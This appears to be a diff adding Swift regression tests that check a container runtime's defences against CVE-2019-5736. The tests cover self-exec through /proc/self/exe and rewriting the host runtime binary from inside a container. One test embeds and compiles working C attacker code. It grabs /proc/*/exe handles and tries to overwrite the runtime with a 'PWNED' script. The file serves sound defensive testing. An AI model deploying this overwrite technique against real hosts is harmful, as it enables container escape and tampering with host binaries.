@@ -1,0 +1,181 @@
+import ContainerKit
+import Foundation
+import OCI
+import TestSupport
+import Testing
+
+/// CVE-2019-5736: no process of a container may run, or rewrite, the host binary that started it (`ckit-runtime`, or
+/// the embedder's own executable for in-process starts).
+@Suite("The runtime binary from inside a container", .enabled(if: isRoot, "requires root"))
+struct RuntimeBinaryTests {
+  static let usage = ["OVERVIEW", "USAGE", "ckit-runtime"]
+
+  /// A script whose interpreter is the process's own executable.
+  static func addSelfExecScript(_ rootfs: URL) throws {
+    let script = rootfs.appendingPathComponent("selfexec")
+    try Data("#!/proc/self/exe\n".utf8).write(to: script)
+    chmod(script.path, 0o755)
+  }
+
+  @Test("ckit-runtime run of /proc/self/exe (and a #!/proc/self/exe script) never runs ckit-runtime")
+  func cliSelfExec() async throws {
+    try await withScratchRoot { scratch in
+      for (n, args) in [["/proc/self/exe", "--help"], ["/selfexec", "--help"]].enumerated() {
+        let bundle = try RuntimeCLITests.bundle(scratch, args: args)
+        try Self.addSelfExecScript(bundle.appendingPathComponent("rootfs"))
+        let r = try RuntimeCLITests.cli(scratch, ["run", "--bundle", bundle.path, "self-exec-\(n)"])
+        for word in Self.usage { #expect(!r.stdout.contains(word) && !r.stderr.contains(word), "\(args): \(r)") }
+        #expect(r.stderr == "ckit exec trampoline: nothing to execute\n", "\(args)")
+        #expect(r.status == 127, "\(args)")
+        try FileManager.default.removeItem(at: bundle)
+      }
+    }
+  }
+
+  @Test("in-process: /proc/self/exe, as the program, a script's interpreter or exec'd, is the sealed trampoline")
+  func inProcessSelfExec() async throws {
+    try await withScratchRoot { scratch in
+      let f = try RuntimeFixture(scratch)
+      try Self.addSelfExecScript(f.rootfs)
+      for args in [["/proc/self/exe", "--help"], ["/selfexec", "--help"]] {
+        let r = try await f.run(f.spec(args))
+        #expect(r.out == "", "\(args)")
+        #expect(r.err == "ckit exec trampoline: nothing to execute\n", "\(args)")
+        #expect(r.status.code == 127, "\(args)")
+      }
+      let c = try await f.start(f.spec(["sleep", "30"]), id: "self-exec-joined")
+      let p = try await c.exec(Spec.Process(args: ["/proc/self/exe", "--help"]), io: .pipes)
+      let r = await RuntimeFixture.output(of: p)
+      #expect(r.err == "ckit exec trampoline: nothing to execute\n")
+      #expect(r.status.code == 127)
+      try await f.remove(c, force: true)
+    }
+  }
+
+  /// The attacker, pid 1 of the container: holds an O_PATH fd of every `/proc/*/exe` that is not busybox, and
+  /// reopens it O_WRONLY|O_TRUNC until that works (the host binary is gone: ETXTBSY cleared) or fails for good.
+  /// Logs `held`, `wrote` or `refused ERRNO` with the target to /attack.log; `/stop` ends it once nothing is held.
+  static let attacker = #"""
+    #define _GNU_SOURCE
+    #include <dirent.h>
+    #include <errno.h>
+    #include <fcntl.h>
+    #include <stdio.h>
+    #include <stdlib.h>
+    #include <string.h>
+    #include <time.h>
+    #include <unistd.h>
+
+    struct held { int fd, pid; char target[256]; };
+    static struct held held[256];
+    static int seen[4096];
+
+    int main(void) {
+      FILE *log = fopen("/attack.log", "w");
+      setvbuf(log, NULL, _IONBF, 0);
+      fprintf(log, "ready\n");
+      int n = 0, nseen = 0;
+      time_t stopping = 0;
+      for (;;) {
+        DIR *d = opendir("/proc");
+        struct dirent *e;
+        while (d != NULL && (e = readdir(d)) != NULL) {
+          int pid = atoi(e->d_name), known = 0;
+          if (pid <= 1) continue;
+          for (int i = 0; i < nseen; i++) known |= seen[i] == pid;
+          if (known || n == 256) continue;
+          char path[64], target[256];
+          snprintf(path, sizeof path, "/proc/%d/exe", pid);
+          int fd = open(path, O_PATH | O_CLOEXEC);
+          if (fd < 0) continue;
+          snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+          ssize_t l = readlink(path, target, sizeof target - 1);
+          if (l <= 0) { close(fd); continue; }
+          target[l] = 0;
+          seen[nseen++ % 4096] = pid;
+          if (strstr(target, "busybox") != NULL) { close(fd); continue; }
+          held[n].fd = fd;
+          held[n].pid = pid;
+          strcpy(held[n].target, target);
+          n++;
+          fprintf(log, "held %s\n", target);
+        }
+        if (d != NULL) closedir(d);
+        for (int i = 0; i < n;) {
+          char path[64];
+          snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
+          int w = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
+          if (w < 0 && errno == ETXTBSY) { i++; continue; }
+          if (w >= 0) {
+            (void)!write(w, "#!/bin/sh\necho PWNED\n", 21);
+            close(w);
+            fprintf(log, "wrote %s\n", held[i].target);
+          } else {
+            fprintf(log, "refused %d %s\n", errno, held[i].target);
+          }
+          close(held[i].fd);
+          held[i] = held[--n];
+        }
+        if (access("/stop", F_OK) == 0) {
+          if (stopping == 0) stopping = time(NULL);
+          if (n == 0 || time(NULL) - stopping > 5) { fprintf(log, "done %d\n", n); return 0; }
+        }
+      }
+    }
+    """#
+
+  static func sha256(_ path: String) throws -> String {
+    try Command.run(["sha256sum", path]).stdout.split(separator: " ").first.map(String.init) ?? ""
+  }
+
+  @Test("a container with CAP_SYS_PTRACE that grabs /proc/*/exe while ckit-runtime exec runs cannot rewrite it")
+  func overwriteAttack() async throws {
+    try await withScratchRoot { scratch in
+      // A copy of the runtime is the one under test: the attack, if it worked, would destroy it.
+      let runtime = try scratch.directory("bin").appendingPathComponent("ckit-runtime").path
+      try Command.run(["cp", RuntimeCLITests.binary, runtime])
+      let before = try Self.sha256(runtime)
+      let bundle = try RuntimeCLITests.bundle(scratch, args: ["/attacker"])
+      let rootfs = bundle.appendingPathComponent("rootfs")
+      let source = scratch.path.appendingPathComponent("attacker.c")
+      try Data(Self.attacker.utf8).write(to: source)
+      try Command.run(["gcc", "-static", "-O2", "-o", rootfs.appendingPathComponent("attacker").path, source.path])
+      // CAP_SYS_PTRACE, so that the exec'd process's being non-dumpable does not hide a reachable binary.
+      let config = bundle.appendingPathComponent("config.json")
+      var spec = try JSONSerialization.jsonObject(with: Data(contentsOf: config)) as! [String: Any]
+      var process = spec["process"] as! [String: Any]
+      var caps = process["capabilities"] as! [String: [String]]
+      for set in ["bounding", "effective", "permitted"] { caps[set, default: []].append("CAP_SYS_PTRACE") }
+      process["capabilities"] = caps
+      spec["process"] = process
+      try JSONSerialization.data(withJSONObject: spec).write(to: config)
+
+      let parent = RuntimeCLITests.cgroupParent(scratch)
+      for dir in RuntimeFixture.cgroupDirectories(parent) { scratch.register(cgroup: dir) }
+      let state = scratch.path.appendingPathComponent("state").path
+      func cli(_ args: [String]) throws -> CommandResult {
+        try Command.run([runtime, "--root", state, "--cgroup-parent", parent] + args, check: false)
+      }
+      let log = rootfs.appendingPathComponent("attack.log")
+      let logText = { (try? String(contentsOf: log, encoding: .utf8)) ?? "" }
+      let started = try cli(["run", "-d", "--bundle", bundle.path, "attacked"])
+      #expect(started.status == 0, "\(started)")
+      defer { _ = try? cli(["delete", "--force", "attacked"]) }
+      _ = try await RuntimeFixture.eventually { logText().contains("ready") ? true : nil }
+      // The attacker must see the runtime's clone between its setns and its exec: retry until it did.
+      var execs = 0
+      while execs < 100 && !logText().split(separator: "\n").contains(where: { $0.hasPrefix("held") && $0.contains("ckit-runtime") }) {
+        _ = try cli(["exec", "attacked", "/bin/true"])
+        execs += 1
+      }
+      _ = FileManager.default.createFile(atPath: rootfs.appendingPathComponent("stop").path, contents: nil)
+      _ = try await RuntimeFixture.eventually { logText().contains("done") ? true : nil }
+      let lines = logText().split(separator: "\n")
+      #expect(lines.contains { $0.hasPrefix("held") && $0.contains("ckit-runtime") }, "\(execs) execs: \(lines)")
+      #expect(!lines.contains { $0.hasPrefix("wrote") }, "\(lines)")
+      #expect(try Self.sha256(runtime) == before, "the runtime binary was rewritten from the container")
+      let next = try cli(["exec", "attacked", "echo", "still here"])
+      #expect(next.status == 0 && next.stdout == "still here\n", "\(next)")
+    }
+  }
+}
